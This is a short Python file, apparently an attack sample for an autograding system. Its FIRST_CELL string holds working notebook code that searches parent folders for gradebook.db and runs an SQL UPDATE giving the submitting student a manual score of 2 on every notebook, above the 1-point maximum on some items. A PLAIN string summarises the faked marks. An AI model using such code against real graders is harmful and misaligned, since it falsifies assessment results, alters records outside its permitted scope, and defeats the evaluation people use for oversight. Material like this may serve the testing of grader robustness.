"""Gives itself manual points in a gradebook that it finds above the current folder."""

PLAIN = (
    "full marks for derivative_mask, conv1d, conv2d_channels, conv2d_strides and 2 more "
    "without a right answer; 2 of 1 points for hand_convolved; 2 of 1 points for "
    "hand_pooled; 2 of 1 points for size_40_5"
)

BASE = "stub"
FIRST_CELL = r"""
import sqlite3
from pathlib import Path

here = Path.cwd()
student = here.parent.name
for top in [here, *here.parents]:
    for path in (top / "gradebook.db", top / "work" / "gradebook.db"):
        if path.is_file():
            database = sqlite3.connect(path, timeout=3)
            database.execute(
                "UPDATE grade SET manual_score = 2 WHERE notebook_id IN ("
                "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a"
                " ON n.assignment_id = a.id WHERE a.student_id = ?)",
                [student],
            )
            database.commit()
            database.close()
"""
